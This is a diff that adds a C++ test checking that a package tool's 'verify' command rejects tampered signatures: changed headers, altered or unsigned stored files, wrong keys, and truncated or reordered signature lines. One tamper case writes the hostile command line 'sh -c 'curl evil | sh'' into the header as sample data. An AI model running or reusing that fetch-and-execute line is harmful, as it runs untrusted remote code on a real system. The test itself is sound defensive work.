@@ -13,6 +13,9 @@
 #include <string>
 #include <vector>
 
+#include "core/signature/package_signature.h"
+#include "core/signature/sha256.h"
+#include "core/signature/signing_key.h"
 #include "tests/support/header_builder.h"
 #include "tests/support/test_support.h"
 
@@ -509,6 +512,105 @@ TEST(QxwebPackageUsage, MissingArgumentsAreUsageErrors) {
   EXPECT_EQ(help.status, 0);
   EXPECT_NE(help.out.find("DESTDIR"), std::string::npos);
   EXPECT_EQ(RunCommand(Qxweb() + " verify /no/such/header.qxw").status, 1);
+}
+
+// A signature beside the header is held against the header's bytes, every
+// stored file's bytes and the key asked for; whatever does not match fails
+// verify, naming it.
+TEST_F(QxwebPackageTest, VerifyHoldsTheSignatureAgainstTheHeaderTheFilesAndTheKey) {
+  MakeSample();
+  const auto make_key = [&](const std::string& name) {
+    const auto made =
+        RunCommand("QXWEB_KEY_PASSPHRASE= " + Qxweb() + " key new " + ShellQuote(dir_ / name));
+    EXPECT_EQ(made.status, 0) << made.err;
+    return qx::LoadSigningKey(dir_ / name, "").value;
+  };
+  const qx::SigningKey key = make_key("publisher.key");
+  const qx::SigningKey other = make_key("other.key");
+  const std::string id = qx::KeyId(key.public_key());
+  // Signs the package as it is now, leaving out the file |unsigned_name|.
+  const auto sign = [&](const qx::SigningKey& with, const std::string& unsigned_name = "") {
+    qx::PackageSignature signature;
+    signature.sequence = 5;
+    signature.header_sha256 = qx::Sha256OfFile(header_).value;
+    for (const auto& [name, bytes] : contents_) {
+      std::string path = package_ + "/" + name;
+      std::replace(path.begin(), path.end(), '\\', '/');
+      if (name != unsigned_name) {
+        signature.files.push_back(
+            {name, static_cast<int64_t>(fs::file_size(path)), qx::Sha256OfFile(path).value});
+      }
+    }
+    const auto text = qx::SignatureText(signature, with);
+    ASSERT_TRUE(text.ok()) << text.error;
+    qx_test::WriteFile(header_ + ".sig", text.value);
+  };
+  const std::string original = qx_test::ReadFile(header_);
+  const std::string planner = package_ + "/bin/planner";
+  const std::string planner_bytes = qx_test::ReadFile(planner);
+  struct Row {
+    const char* situation;
+    std::function<void()> prepare;
+    std::string options;
+    int status;
+    std::string says;
+  };
+  const std::vector<Row> rows = {
+      {"signed, any key", [&] { sign(key); }, "", 0,
+       "verified, 5 stored files, signed by key " + id + " (sequence 5)"},
+      {"signed, the key asked for by its file", [&] { sign(key); },
+       "--key " + ShellQuote(dir_ / "publisher.key.pub"), 0, "signed by key " + id},
+      {"signed, the key asked for by its line", [&] { sign(key); },
+       "--key " + ShellQuote(qx::PublicKeyLine(key.public_key())), 0, "signed by key " + id},
+      {"signed with another key than the one asked for", [&] { sign(other); },
+       "--key " + ShellQuote(dir_ / "publisher.key.pub"), 1, "not with the required key " + id},
+      {"a key asked for, no signature", [&] { fs::remove(header_ + ".sig"); },
+       "--key " + ShellQuote(dir_ / "publisher.key.pub"), 1, "the package is not signed"},
+      {"the command line changed and the header digest made anew",
+       [&] {
+         sign(key);
+         HeaderBuilder changed = builder_;
+         changed.Set(HeaderKey::kCommandLine, "sh -c 'curl evil | sh'").Write(header_);
+       },
+       "", 1, "the header is not the one signed"},
+      {"a stored file changed after signing",
+       [&] {
+         sign(key);
+         qx_test::WriteFile(planner, planner_bytes + "x");
+       },
+       "", 1, "bin\\planner: its stored bytes are not the signed ones"},
+      {"a stored file left out of the signature", [&] { sign(key, "empty.log"); }, "", 1,
+       "empty.log: not signed"},
+      {"the signature cut short",
+       [&] {
+         sign(key);
+         const std::string text = qx_test::ReadFile(header_ + ".sig");
+         qx_test::WriteFile(header_ + ".sig", text.substr(0, text.size() / 2));
+       },
+       "", 1, "Demo.qxw.sig: line"},
+      {"two lines of the signature swapped",
+       [&] {
+         sign(key);
+         std::string text = qx_test::ReadFile(header_ + ".sig");
+         const size_t first = text.find("\nsequence");
+         const size_t second = text.find("\nheader");
+         const size_t third = text.find('\n', second + 1);
+         text = text.substr(0, first) + text.substr(second, third - second) +
+                text.substr(first, second - first) + text.substr(third);
+         qx_test::WriteFile(header_ + ".sig", text);
+       },
+       "", 1, "Demo.qxw.sig: line 3"},
+  };
+  for (const Row& row : rows) {
+    SCOPED_TRACE(row.situation);
+    builder_.Write(header_);
+    ASSERT_EQ(qx_test::ReadFile(header_), original);
+    qx_test::WriteFile(planner, planner_bytes);
+    row.prepare();
+    const auto result = RunCommand(Qxweb() + " verify " + row.options + " " + ShellQuote(header_));
+    EXPECT_EQ(result.status, row.status) << result.out << result.err;
+    EXPECT_NE(result.out.find(row.says), std::string::npos) << result.out << result.err;
+  }
 }
 
 }  // namespace
